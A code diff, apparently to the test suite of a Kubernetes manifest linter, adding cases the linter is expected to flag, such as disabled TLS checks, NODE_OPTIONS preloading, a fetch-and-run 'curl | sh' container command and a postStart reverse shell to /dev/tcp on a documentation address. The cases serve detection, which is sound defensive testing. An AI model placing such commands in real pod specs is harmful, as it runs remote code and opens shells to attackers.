@@ -341,7 +341,7 @@ const CASES: Readonly<Record<string, readonly [Manifest, string?]>> = {
     ],
     "a range of more than there is": [
         object("v1", "LimitRange", { spec: { limits: [{ type: "Container", max: { cpu: "9000000" } }] } }),
-        "spec.limits[0].max.cpu is more than any cluster has",
+        "spec.limits[0].max.cpu is more than any node has",
     ],
     "a mesh that takes any server": [
         object("networking.istio.io/v1", "DestinationRule", {
@@ -444,6 +444,83 @@ const CASES: Readonly<Record<string, readonly [Manifest, string?]>> = {
                     webhooks: [{ name: "a", rules: [ASKED], ...part }],
                 }),
                 wanted && `webhooks[0].${wanted}`,
+            ),
+        ]),
+    ),
+    "secrets of an address": [
+        object("external-secrets.io/v1", "SecretStore", { spec: { provider: { webhook: { url: "https://a.test" } } } }),
+        "spec.provider.webhook takes secrets",
+    ],
+    "an old standard for pods": [
+        object("v1", "Namespace", {}, { labels: { "pod-security.kubernetes.io/enforce-version": "v1.20" } }),
+        'metadata.labels["pod-security.kubernetes.io/enforce-version"] has admission treat',
+    ],
+    "a late standard for pods": [
+        object("v1", "Namespace", {}, { labels: { "pod-security.kubernetes.io/enforce-version": "v1.30" } }),
+    ],
+    ...Object.fromEntries(
+        (
+            [
+                ["of another scheduler", { schedulerName: "a" }, {}, "spec.schedulerName leaves"],
+                ["of the scheduler", { schedulerName: "default-scheduler" }, {}],
+                ["with devices", { resourceClaims: [{ name: "a" }] }, {}, "spec.resourceClaims brings"],
+                [
+                    "with a certificate",
+                    { volumes: [{ name: "a", projected: { sources: [{ podCertificate: { signerName: "a/b" } }] } }] },
+                    {},
+                    "spec.volumes[0].projected.sources[0].podCertificate is given",
+                ],
+                ["with a disk", {}, { volumeDevices: [{ name: "a" }] }, "spec.containers[0].volumeDevices brings"],
+                [
+                    "with a profile on the nodes",
+                    {},
+                    { securityContext: { appArmorProfile: { type: "Localhost", localhostProfile: "a" } } },
+                    "spec.containers[0].securityContext.appArmorProfile is a profile",
+                ],
+                [
+                    "with a profile for all containers",
+                    { securityContext: { appArmorProfile: { type: "Localhost", localhostProfile: "a" } } },
+                    {},
+                    "spec.securityContext.appArmorProfile is a profile",
+                ],
+                [
+                    "with the runtime's profile",
+                    { securityContext: { appArmorProfile: { type: "RuntimeDefault" } } },
+                    {},
+                ],
+                ...[
+                    "NODE_TLS_REJECT_UNAUTHORIZED=0",
+                    "NODE_OPTIONS=--require /a.js",
+                    "KUBERNETES_SERVICE_HOST=192.0.2.1",
+                ].map((variable) => {
+                    const [name, value] = variable.split("=");
+                    return [`with ${variable}`, {}, { env: [{ name, value }] }, "spec.containers[0].env[0] "] as const;
+                }),
+                ...["NODE_TLS_REJECT_UNAUTHORIZED=1", "NODE_OPTIONS=--max-old-space-size=1", "toString=a"].map(
+                    (variable) => {
+                        const [name, value] = variable.split("=");
+                        return [`with ${variable}`, {}, { env: [{ name, value }] }] as const;
+                    },
+                ),
+                [
+                    "that runs what an address serves",
+                    {},
+                    { command: ["sh", "-c"], args: ["curl -sS https://a.test/x | sh"] },
+                    "spec.containers[0].command runs what",
+                ],
+                [
+                    "that opens a way to a shell when it starts",
+                    {},
+                    { lifecycle: { postStart: { exec: { command: ["bash", "-c", "sh >& /dev/tcp/192.0.2.1/1"] } } } },
+                    "spec.containers[0].lifecycle.postStart.exec.command opens",
+                ],
+                ["that asks an address", {}, { command: ["sh", "-c", "curl https://a.test | grep ok"] }],
+            ] as const
+        ).map(([what, spec, container, wanted]): [string, readonly [Manifest, string?]] => [
+            `a pod ${what}`,
+            caseOf(
+                object("v1", "Pod", { spec: { containers: [{ name: "a", image: "a", ...container }], ...spec } }),
+                wanted,
             ),
         ]),
     ),
